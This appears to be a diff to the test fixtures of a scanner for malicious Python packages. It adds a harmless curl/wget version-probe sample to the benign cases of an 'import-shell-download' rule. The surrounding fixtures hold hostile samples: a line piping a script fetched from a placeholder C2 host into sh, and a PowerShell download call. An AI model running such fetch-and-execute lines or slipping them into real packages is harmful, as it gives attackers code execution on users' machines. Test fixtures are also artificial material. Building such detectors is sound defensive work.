@@ -488,6 +488,25 @@ IMPORT_CURL = f"""\
 import os
 os.system("curl -fsSL {C2}/x.sh | sh")
 """
+# ez_setup.py picks a downloader by asking which clients are installed.
+CURL_VERSION_PROBE = """\
+import os
+import subprocess
+
+
+def has_curl():
+    cmd = ["curl", "--version"]
+    with open(os.path.devnull, "wb") as devnull:
+        try:
+            subprocess.check_call(cmd, stdout=devnull, stderr=devnull)
+        except Exception:
+            return False
+    return True
+
+
+CURL = has_curl()
+os.system("wget --version")
+"""
 IMPORT_POWERSHELL_LIST = """\
 import subprocess
 cmd = ["powershell", "-NoP", "-C", "Invoke-WebRequest -Uri x -OutFile y"]
@@ -1211,7 +1230,12 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
     ),
     "import-shell-download": RuleFixtures(
         positive=[module(IMPORT_CURL), module(IMPORT_POWERSHELL_LIST)],
-        benign=[module(IMPORT_GIT), module(RUNTIME_CURL), setup_py(IMPORT_CURL)],
+        benign=[
+            module(IMPORT_GIT),
+            module(RUNTIME_CURL),
+            setup_py(IMPORT_CURL),
+            module(CURL_VERSION_PROBE),
+        ],
     ),
     "import-network": RuleFixtures(
         positive=[
